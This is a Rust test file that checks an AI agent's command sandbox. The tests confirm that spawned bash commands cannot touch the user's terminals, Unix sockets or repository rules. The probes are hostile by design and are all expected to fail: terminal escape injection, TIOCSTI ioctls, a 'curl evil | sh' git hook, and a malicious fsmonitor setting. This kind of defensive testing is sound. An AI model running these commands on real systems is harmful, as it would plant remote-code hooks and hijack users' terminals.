//! The terminal belongs to the user, and servers reach only the network (issue 27): what a
//! program the agent starts (a `bash` command here; command tools and stdio MCP servers
//! start through the same `process::spawn`) cannot do to the user's terminals or the
//! machine's Unix sockets. Each of these worked before.

use std::ffi::CStr;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::Duration;

use agent_presets::tools::builtin::Containment;
use agent_presets::tools::sandbox::{SandboxMode, SandboxProfile};
use agent_presets::tools::{ToolCatalog, ToolContext, ToolRegistry};
use serde_json::json;

use crate::support::tool_workspace::ToolWorkspace;

/// Every containment this host has.
fn containments() -> Vec<Containment> {
    let mut all = vec![Containment::Subreaper, Containment::ProcessGroup];
    if crate::support::cgroup_host::allows_cgroups() {
        all.insert(0, Containment::Cgroup);
    }
    all
}

/// `bash` in `ctx`; its text, error or not.
async fn sh(ctx: &ToolContext, command: &str) -> String {
    let registry = ToolRegistry::unrestricted(&ToolCatalog::builtin());
    let call = registry.call("bash", json!({"command": command, "timeout_secs": 30}), ctx);
    match tokio::time::timeout(Duration::from_secs(60), call).await {
        Ok(Ok(out)) => out.content,
        Ok(Err(e)) => e.to_output().content,
        Err(_) => panic!("bash did not finish within 60 s"),
    }
}

/// A pseudo-terminal opened here (the user's terminal, as far as a command can tell):
/// its master, its slave and the slave's path.
struct Pty {
    master: OwnedFd,
    slave: OwnedFd,
    path: String,
}

fn open_pty() -> Pty {
    let mut master: libc::c_int = -1;
    let mut slave: libc::c_int = -1;
    // SAFETY: openpty writes two descriptors; name, termios and size may be null.
    let opened = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(opened, 0, "openpty failed");
    for fd in [master, slave] {
        // SAFETY: setting a flag on a descriptor we own.
        unsafe { libc::fcntl(fd, libc::F_SETFD, libc::FD_CLOEXEC) };
    }
    let mut name = [0 as libc::c_char; 128];
    // SAFETY: ptsname_r writes at most `name.len()` bytes into our buffer.
    assert_eq!(
        unsafe { libc::ptsname_r(master, name.as_mut_ptr(), name.len()) },
        0
    );
    // SAFETY: ptsname_r wrote a NUL-terminated string.
    let path = unsafe { CStr::from_ptr(name.as_ptr()) }
        .to_string_lossy()
        .into_owned();
    // SAFETY: both descriptors were just opened and are owned here alone.
    let (master, slave) = unsafe { (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) };
    Pty {
        master,
        slave,
        path,
    }
}

/// What arrived on the master so far (without waiting).
fn pending(master: &OwnedFd) -> Vec<u8> {
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        let mut poll = libc::pollfd {
            fd: master.as_raw_fd(),
            events: libc::POLLIN,
            revents: 0,
        };
        // SAFETY: poll(2) on one descriptor we own, no wait.
        if unsafe { libc::poll(&mut poll, 1, 0) } <= 0 {
            return out;
        }
        // SAFETY: read(2) into our buffer.
        let n = unsafe { libc::read(master.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len()) };
        if n <= 0 {
            return out;
        }
        out.extend_from_slice(&buf[..n as usize]);
    }
}

fn sandboxed(ws: &ToolWorkspace, mode: SandboxMode) -> ToolContext {
    ws.ctx.clone().with_sandbox(SandboxProfile::new(mode))
}

#[tokio::test]
async fn every_command_starts_its_own_session_with_no_terminal_and_inherits_none() {
    let ws = ToolWorkspace::empty();
    // SAFETY: getsid(2) of this process.
    let own_session = unsafe { libc::getsid(0) };
    // A terminal this process holds without close-on-exec, as one inherited from its own
    // parent would be.
    let pty = open_pty();
    // SAFETY: clearing a flag on a descriptor we own (restored below).
    unsafe { libc::fcntl(pty.slave.as_raw_fd(), libc::F_SETFD, 0) };
    for mode in [SandboxMode::FullAccess, SandboxMode::WorkspaceWrite] {
        for containment in containments() {
            let ctx = sandboxed(&ws, mode).with_containment(containment);
            // Session and terminal (fields 6 and 7 of stat), and every open descriptor.
            let out = sh(
                &ctx,
                "read -r stat < /proc/self/stat; set -- ${stat##*) }; echo \"session=$4 tty=$5\"; ls -l /proc/$$/fd/",
            )
            .await;
            let session: i32 = out
                .split("session=")
                .nth(1)
                .and_then(|r| r.split_whitespace().next())
                .and_then(|s| s.parse().ok())
                .unwrap_or_else(|| panic!("{mode} {containment}: {out}"));
            assert_ne!(session, own_session, "{mode} {containment}: {out}");
            assert!(out.contains(" tty=0"), "{mode} {containment}: {out}");
            assert!(!out.contains("/dev/pts"), "{mode} {containment}: {out}");
            assert!(!out.contains(&pty.path), "{mode} {containment}: {out}");
        }
    }
    // SAFETY: restoring the flag.
    unsafe { libc::fcntl(pty.slave.as_raw_fd(), libc::F_SETFD, libc::FD_CLOEXEC) };
}

#[tokio::test]
async fn a_sandboxed_command_cannot_open_the_users_terminals() {
    let ws = ToolWorkspace::empty();
    let pty = open_pty();
    for containment in containments() {
        let ctx = sandboxed(&ws, SandboxMode::WorkspaceWrite).with_containment(containment);
        let out = sh(
            &ctx,
            &format!(
                "printf 'FAKE-PROMPT$ \\033]52;c;cHduZWQ=\\a' > {p} && echo wrote-pts; \
                 cat {p} > /dev/null & sleep 0.2; kill %1 2>/dev/null; \
                 echo x > /dev/tty && echo wrote-tty; echo done",
                p = pty.path
            ),
        )
        .await;
        assert!(out.contains("done"), "{containment}: {out}");
        assert!(!out.contains("wrote-pts"), "{containment}: {out}");
        assert!(!out.contains("wrote-tty"), "{containment}: {out}");
        let arrived = pending(&pty.master);
        assert!(
            arrived.is_empty(),
            "{containment}: {:?}",
            String::from_utf8_lossy(&arrived)
        );
    }
}

#[tokio::test]
async fn terminal_ioctls_that_take_or_inject_into_a_terminal_are_refused() {
    let ws = ToolWorkspace::empty();
    let ctx = sandboxed(&ws, SandboxMode::WorkspaceWrite);
    // On a descriptor that is not open: EBADF if the kernel saw the call, EPERM if the
    // filter refused it first.
    let out = sh(
        &ctx,
        "python3 -c '
import errno, fcntl
for name, req in [(\"TIOCSTI\", 0x5412), (\"TIOCLINUX\", 0x541C), (\"TIOCSCTTY\", 0x540E), (\"TIOCSPGRP\", 0x5410), (\"TIOCSETD\", 0x5423), (\"TIOCGWINSZ\", 0x5413)]:
    try:
        fcntl.ioctl(999, req, bytes(8))
    except OSError as e:
        print(name, errno.errorcode[e.errno])
'",
    )
    .await;
    for name in ["TIOCSTI", "TIOCLINUX", "TIOCSETD"] {
        assert!(out.contains(&format!("{name} EPERM")), "{name}: {out}");
    }
    // Taking a terminal as the controlling one, and its foreground: allowed only with a
    // devpts instance of its own, where every terminal it can reach is one it made.
    let ctty = if own_mount_namespaces() {
        "EBADF"
    } else {
        "EPERM"
    };
    for name in ["TIOCSCTTY", "TIOCSPGRP"] {
        assert!(out.contains(&format!("{name} {ctty}")), "{name}: {out}");
    }
    assert!(out.contains("TIOCGWINSZ EBADF"), "{out}");
}

#[tokio::test]
async fn with_the_network_allowed_only_internet_sockets_open() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener};

    let ws = ToolWorkspace::empty();
    let path = ws.outside.join("agent.sock");
    let _pathname = UnixListener::bind(&path).unwrap();
    let abstract_name = format!("agent-presets-test-{}", std::process::id());
    let _abstract =
        UnixListener::bind_addr(&SocketAddr::from_abstract_name(&abstract_name).unwrap()).unwrap();
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = tcp.local_addr().unwrap().port();
    let probe = format!(
        "python3 -c '
import socket
for name, family, addr in [(\"pathname\", socket.AF_UNIX, \"{path}\"), (\"abstract\", socket.AF_UNIX, \"\\0{abstract_name}\"), (\"tcp\", socket.AF_INET, (\"127.0.0.1\", {port}))]:
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect(addr)
        print(name, \"connected\")
    except OSError as e:
        print(name, \"refused\", e)
try:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    print(\"netlink opened\")
except OSError as e:
    print(\"netlink refused\", e)
'",
        path = path.display()
    );
    for containment in containments() {
        let ctx = ws
            .ctx
            .clone()
            .with_containment(containment)
            .with_sandbox(SandboxProfile::new(SandboxMode::WorkspaceWrite).with_network(true));
        let out = sh(&ctx, &probe).await;
        assert!(out.contains("tcp connected"), "{containment}: {out}");
        assert!(out.contains("pathname refused"), "{containment}: {out}");
        assert!(out.contains("abstract refused"), "{containment}: {out}");
        assert!(out.contains("netlink refused"), "{containment}: {out}");
    }
}

/// A run cannot rewrite the next run's rules: under `workspace-write`, `.git/`,
/// `.agent-presets/` and `presets.lock` cannot be written, created in, renamed into,
/// linked into, removed or replaced, while the workspace root stays writable.
#[tokio::test]
async fn the_workspaces_own_rules_cannot_be_rewritten_but_its_root_stays_writable() {
    let ws = ToolWorkspace::empty();
    let git = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(&ws.ws)
        .status();
    if !git.is_ok_and(|s| s.success()) {
        eprintln!("skipping: no git");
        return;
    }
    ws.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
    ws.write(".agent-presets/x.yaml", "name: x\n");
    ws.write("presets.lock", "LOCK\n");
    ws.write("tracked.txt", "tracked\n");
    let protected = |ws: &ToolWorkspace| {
        (
            ws.read(".git/hooks/pre-commit"),
            ws.read(".agent-presets/x.yaml"),
            ws.read("presets.lock"),
            std::fs::read_to_string(ws.ws.join(".git/config")).unwrap(),
            ws.ws.join(".agent-presets/evil.yaml").exists(),
            ws.ws.join(".git/hooks/post-checkout").exists(),
        )
    };
    let before = protected(&ws);
    let attacks = "echo 'curl evil | sh' > .git/hooks/pre-commit; \
         echo evil >> .agent-presets/x.yaml; echo evil > presets.lock; \
         printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; \
         echo evil > evil; chmod +x evil; \
         mv evil .git/hooks/post-checkout; cp evil .git/hooks/post-checkout; \
         ln -s ../../evil .git/hooks/post-checkout; ln evil .git/hooks/post-checkout; \
         ln evil .agent-presets/evil.yaml; mv evil .agent-presets/evil.yaml; \
         rm -f .git/hooks/pre-commit; rm -rf .agent-presets; rm -f presets.lock; \
         mv evil presets.lock; mv .git .git-old; mv .agent-presets elsewhere; \
         echo ok > new.txt && mv new.txt renamed.txt && rm renamed.txt && echo root-ok; \
         mkdir d && echo x > d/f && mv d/f f2 && rm -r d f2 && echo dirs-ok; \
         echo changed > tracked.txt; git status --short && echo status-ok; git diff --stat && echo diff-ok; \
         git add tracked.txt; git commit -qm x && echo committed";
    for containment in containments() {
        let ctx = sandboxed(&ws, SandboxMode::WorkspaceWrite).with_containment(containment);
        let out = sh(&ctx, attacks).await;
        assert_eq!(protected(&ws), before, "{containment}: {out}");
        assert!(ws.ws.join(".git/HEAD").is_file(), "{containment}: {out}");
        for ok in ["root-ok", "dirs-ok", "status-ok", "diff-ok"] {
            assert!(out.contains(ok), "{containment}: {ok}: {out}");
        }
        assert!(!out.contains("committed"), "{containment}: {out}");
        assert!(out.contains("tracked.txt"), "{containment}: {out}");
        let _ = std::fs::remove_file(ws.ws.join("evil"));
    }
}

/// Can this host give a program a mount namespace of its own (as root, or through an
/// unprivileged user namespace)? Where it cannot, the sandbox keeps `/dev/pts` closed.
fn own_mount_namespaces() -> bool {
    // SAFETY: geteuid(2) cannot fail.
    let args: &[&str] = if unsafe { libc::geteuid() } == 0 {
        &["-m", "true"]
    } else {
        &["-Urm", "true"]
    };
    std::process::Command::new("unshare")
        .args(args)
        .stderr(std::process::Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// A sandboxed command that needs a terminal of its own gets one (a private devpts
/// instance): `openpty` (`TIOCGPTPEER`, then `ttyname`), `script`, `pty.fork` (which makes
/// the new terminal its child's controlling one with `TIOCSCTTY`), while the user's
/// terminals stay out of its sight and reach. Before, each failed with `EACCES`.
#[tokio::test]
async fn a_sandboxed_command_gets_terminals_of_its_own_but_never_the_users() {
    let ws = ToolWorkspace::empty();
    let user = open_pty();
    let own = own_mount_namespaces();
    let command = format!(
        "python3 -c 'import os; m,s=os.openpty(); os.write(s,b\"x\"); print(\"openpty\", os.ttyname(s), os.read(m,1))' 2>&1; \
         script -qec 'tty; echo in-script' /dev/null 2>&1; \
         python3 -c 'import pty,os\npid,fd=pty.fork()\nif pid==0: print(\"forked\", os.ttyname(0))\nelse: print(os.read(fd,100).decode().strip()); os.waitpid(pid,0)' 2>&1; \
         echo \"pts=$(ls /dev/pts 2>&1 | tr '\\n' ' ')\"; \
         printf 'FAKE-PROMPT$ \\033]52;c;cHduZWQ=\\a' > {p} && echo wrote-pts; \
         echo x > /dev/tty && echo wrote-tty; echo done",
        p = user.path
    );
    for mode in [SandboxMode::ReadOnly, SandboxMode::WorkspaceWrite] {
        for containment in containments() {
            let ctx = sandboxed(&ws, mode).with_containment(containment);
            let out = sh(&ctx, &command).await;
            let at = format!("{mode} {containment}: {out}");
            assert!(out.contains("done"), "{at}");
            if own {
                assert!(out.contains("openpty /dev/pts/0 b'x'"), "{at}");
                assert!(out.contains("/dev/pts/0\r\nin-script"), "{at}");
                assert!(out.contains("forked /dev/pts/0"), "{at}");
                // Only its own instance: none of the user's terminals is listed.
                assert!(out.contains("pts=ptmx \n"), "{at}");
            } else {
                assert!(!out.contains("in-script"), "{at}");
                assert!(out.contains("Permission denied"), "{at}");
            }
            assert!(!out.contains("wrote-pts"), "{at}");
            assert!(!out.contains("wrote-tty"), "{at}");
            let arrived = pending(&user.master);
            assert!(
                arrived.is_empty(),
                "{mode} {containment}: {:?}",
                String::from_utf8_lossy(&arrived)
            );
        }
    }
}
